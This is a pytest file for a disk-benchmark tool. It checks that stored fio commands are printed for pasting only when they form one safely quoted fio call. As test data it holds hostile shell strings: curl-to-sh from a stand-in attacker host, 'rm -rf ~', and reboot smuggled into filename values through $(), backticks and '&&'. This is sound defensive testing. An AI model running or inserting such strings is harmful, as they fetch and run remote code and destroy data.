"""`show --commands` prints each test's fio command "to paste": a stored command from an imported run
is shown only as one fio call, rebuilt from its words, never as the shell text it was stored as."""

from __future__ import annotations

import json
import shlex

from conftest import SAMPLE_RUN, sample_export

HEADER = "fio command lines (paste one to rerun that test):"
# Shell control operators as shlex sees them outside quotes.
OPERATOR_CHARS = set("();<>|&")


def _show_commands(cli, tmp_path, commands: dict[int, str]) -> dict[str, str]:  # noqa: ANN001
    """Import the sample run with test i's fio_command replaced by commands[i]; `show --commands`:
    {test id: the text printed after it}."""

    def mutate(doc: dict) -> None:
        for i, command in commands.items():
            doc["tests"][i]["fio_command"] = command

    db = f"sqlite:///{tmp_path}/store.sqlite"
    res = cli("import", sample_export(tmp_path, mutate), "--db", db, "--json")
    assert res.code == 0, res.err
    (run_id,) = res.json()["imported"]
    res = cli("show", str(run_id), "--commands", "--db", db)
    assert res.code == 0, res.err
    lines = res.out.splitlines()
    shown = lines[lines.index(HEADER) + 1 :]
    out = {}
    for line in shown:
        test_id, _, text = line.partition(": ")
        out[test_id] = text
    return out


def _assert_one_fio_call(line: str) -> None:
    """What a shell would run for `line`: one fio call, its words all --options, no operator outside quotes."""
    lexer = shlex.shlex(line, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    tokens = list(lexer)
    assert not [t for t in tokens if set(t) <= OPERATOR_CHARS], line
    words = shlex.split(line)
    assert words[0] == "fio" and all(w.startswith("--") for w in words[1:]), line
    # Every word quoted as shlex.join would: nothing ($, `, #, newline) is left for the shell to act on.
    assert shlex.join(words) == line, line


def test_an_imported_shell_command_is_not_shown_to_paste(cli, tmp_path) -> None:  # noqa: ANN001
    from disksleuth.present.bench_view import with_scratch_stand_in

    evil = "fio --name=x; curl http://attacker.example/x|sh #"
    shown = _show_commands(cli, tmp_path, {0: evil})
    with open(SAMPLE_RUN) as fh:
        tests = json.load(fh)["tests"]
    first = tests[0]["id"]
    assert shown[first] == "(not shown: the stored command is not one fio call)"
    assert not any("curl" in text for text in shown.values())
    for t in tests[1:]:  # the honest ones are printed as recorded, but for the removed scratch file (issue 40)
        assert shown[t["id"]] == with_scratch_stand_in(t["fio_command"])[0]
        _assert_one_fio_call(shown[t["id"]])


def test_substitutions_inside_one_word_are_shown_quoted(cli, tmp_path) -> None:  # noqa: ANN001
    # Each is a single word to shlex, so it passes as one fio call, but pasted verbatim a shell
    # would run the substitution.
    commands = {
        0: "fio --name=x --filename=$(reboot)",
        1: "fio --name=x --filename=`reboot`",
        2: "fio --name=x --filename=a&&reboot",
        3: "/usr/bin/fio --name=x --filename='a;reboot'",
    }
    shown = _show_commands(cli, tmp_path, commands)
    with open(SAMPLE_RUN) as fh:
        ids = [t["id"] for t in json.load(fh)["tests"]]
    for i, stored in commands.items():
        line = shown[ids[i]]
        assert line != stored
        words = shlex.split(line)
        assert words == shlex.split(stored)  # the same fio call, quoted
        _assert_one_fio_call(line.replace("/usr/bin/fio", "fio", 1))


def test_what_is_not_one_fio_call() -> None:
    from disksleuth.present.bench_view import pasteable_fio_command

    refused = [
        "fio --name=x\ncurl http://attacker.example/x",  # a second command on the next line
        "fio --name=x $(curl http://attacker.example/x)",  # split: "$(curl" is not an option
        "fio --name=x | sh",
        "fio --name=x && rm -rf ~",
        "fio --name=x #",
        "fio --name='x",  # unclosed quote
        "sh -c 'fio --name=x'",
        "fio-evil --name=x",
        "$(curl x)/fio --name=x",
        "fio '--name=x\x1b]0;title\x07'",  # a terminal escape inside quotes
        "fio jobfile.fio",  # a job file runs whatever it says; we never record one
        "",
        "# not rerunnable: ran on a RAM-backed loop device, removed after the run: fio --name=x\nreboot",
    ]
    for stored in refused:
        assert pasteable_fio_command(stored) is None, stored
    assert pasteable_fio_command(None) is None


def test_recorded_forms_are_kept() -> None:
    from disksleuth.present.bench_view import pasteable_fio_command

    recorded = (
        "fio --name=SEQ1M_Q8T1_read --filename=/dev/loop0 --rw=read --bs=1048576 --iodepth=8 --numjobs=1 "
        "--ioengine=io_uring --direct=1 --group_reporting --thread --time_based --runtime=2250ms "
        "--ramp_time=500ms --randrepeat=0 --norandommap --lat_percentiles=1 --percentile_list=50:99:99.9 "
        "--size=1073741824 --output-format=json"
    )
    assert pasteable_fio_command(recorded) == recorded
    spaced = shlex.join(["fio", "--name=x", "--filename=/mnt/my disk/.disksleuth-abcdefgh/scratch"])
    assert pasteable_fio_command(spaced) == spaced
    removed = (
        "# not rerunnable: ran on a RAM-backed loop device, removed after the run: "
        "fio --name=ref --filename=REMOVED-TEMPORARY-TARGET --output-format=json"
    )
    assert pasteable_fio_command(removed) == removed
